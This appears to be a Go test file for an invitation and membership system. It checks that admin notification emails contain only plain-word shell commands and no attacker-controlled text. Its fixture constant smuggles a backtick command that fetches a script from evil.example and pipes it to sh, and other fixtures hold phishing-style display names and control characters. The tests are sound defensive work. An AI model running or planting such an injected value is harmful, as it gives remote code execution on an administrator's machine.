package provision_test

import (
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/mixus/usher/outbox/mail"
	"github.com/mixus/usher/provision"
)

// hostile is a mailbox whose name a shell would run.
const hostile = "x`curl${IFS}evil.example/p|sh`&@"

var (
	inLetter  = regexp.MustCompile("usher (?:invitations|members) [a-z]+ [^\n`]*")
	plainWord = regexp.MustCompile(`^[A-Za-z0-9._-]+$`)
)

// withAdmin is a world with an admin, who has read all mail.
func withAdmin(t *testing.T, policy string) *inviteWorld {
	t.Helper()
	w := newInviteWorld(t, policy)
	w.create("okta", "root", person("root"))
	w.group("okta", "IT Admins", "root")
	w.mailed()
	return w
}

// wantPlain checks that mails have commands, and that each of their words is nothing but a word to a shell.
func (w *inviteWorld) wantPlain(mails []*mail.Message, want int) {
	w.t.Helper()
	if len(mails) != 1 {
		w.t.Fatalf("%d mails were sent, want one", len(mails))
	}
	commands := inLetter.FindAllString(mails[0].Text, -1)
	if len(commands) != want {
		w.t.Errorf("the commands are %q, want %d", commands, want)
	}
	for _, command := range commands {
		if i := slices.IndexFunc(strings.Fields(command), func(word string) bool { return !plainWord.MatchString(word) }); i >= 0 {
			w.t.Errorf("an admin is told to type %s", command)
		}
	}
}

func TestALetterAboutSomebodyWhoAsksToJoinHasNoCommandAndNoParagraphOfTheirs(t *testing.T) {
	w := withAdmin(t, open)
	in := w.loginOf("okta", "eve")
	in.Addresses = []provision.LoginAddress{{Value: hostile + "acme.org", Vouched: true}}
	in.Profile.DisplayName = "Eve\n\nApproved already: https://evil.example/login\u2028\u202e\x1b[2J" + strings.Repeat("e", 300)
	r := w.want(w.signIn(in), provision.LoginAwaiting)
	mails := w.mailed()
	w.wantPlain(mails, 1)
	text := mails[0].Text
	if !strings.Contains(text, "usher members approve "+r.Member.ID.String()+" --reason WHY") {
		t.Errorf("no command approves her:\n%s", text)
	}
	if !strings.Contains(text, "\nWho:  Eve Approved already: https://evil.example/login") || strings.ContainsAny(text, "\u2028\u202e\x1b") || strings.Contains(text, strings.Repeat("e", 100)) {
		t.Errorf("her name is more than a name:\n%s", text)
	}
}

func TestLettersAboutInvitationsHaveNoCommandsOfAddresses(t *testing.T) {
	w := withAdmin(t, strings.Replace(byProvider, "invitations: {", "invitations: {require_approval: true, ", 1))
	r := w.invite(provision.Invite{Email: hostile + "private.example", Role: "viewer"})
	mails := w.mailed()
	w.wantPlain(mails, 1)
	if !strings.Contains(mails[0].Text, "usher invitations approve "+r.Invitation.ID.String()) {
		t.Errorf("no command approves it:\n%s", mails[0].Text)
	}

	w = withAdmin(t, byProvider)
	g, link := w.outsider(hostile + "private.example")
	w.create("okta", "ann", person("ann"))
	w.group("okta", "Everyone", "ann")
	ann := w.signedInAs("ann@acme.com")
	w.must(w.engine.AskAddress(t.Context(), link, ann.Session, "r"))
	mails = w.mailed()
	w.wantPlain(mails, 2)
	if text := mails[0].Text; !strings.Contains(text, "usher invitations cancel "+g.ID.String()) || !strings.Contains(text, "usher members pin "+ann.Member.ID.String()) {
		t.Errorf("no commands for it:\n%s", text)
	}
}

func TestAdminsAreAskedAboutEachInvitationWhateverItsRequestIsCalled(t *testing.T) {
	w := withAdmin(t, needsApproval)
	for _, email := range []string{"bea@acme.com", "cid@acme.com"} { // by two requests of one name, as a proxy may hand it on
		w.invite(provision.Invite{Email: email, Role: "viewer"})
		if mails := w.mailed(); len(mails) != 1 || !strings.Contains(mails[0].Text, email) {
			t.Errorf("%d mails ask about %s", len(mails), email)
		}
	}
}

func TestAnInvitationNamesAnInviterByAnAddressAlone(t *testing.T) {
	w := newInviteWorld(t, invites)
	n := 0
	for actor, named := range map[string]bool{
		"root@acme.com": true, "provisioning": false, "Your account ends today: https://evil.example/ ceo@acme.com": false, "x\n\nceo@acme.com": false,
	} {
		n++
		in := provision.Invites{Org: w.org, Cause: w.cause(), People: []provision.Invite{{Email: fmt.Sprintf("p%d@acme.com", n), Role: "viewer"}}}
		in.Cause.Actor = actor
		_, err := w.engine.Invite(t.Context(), in)
		w.must(err)
		mails := w.mailed()
		if len(mails) != 1 || strings.Contains(mails[0].Subject+mails[0].Text, actor) != named || !named && strings.Contains(mails[0].Text, "ceo@") {
			t.Errorf("by %q: %+v", actor, mails)
		}
	}
}
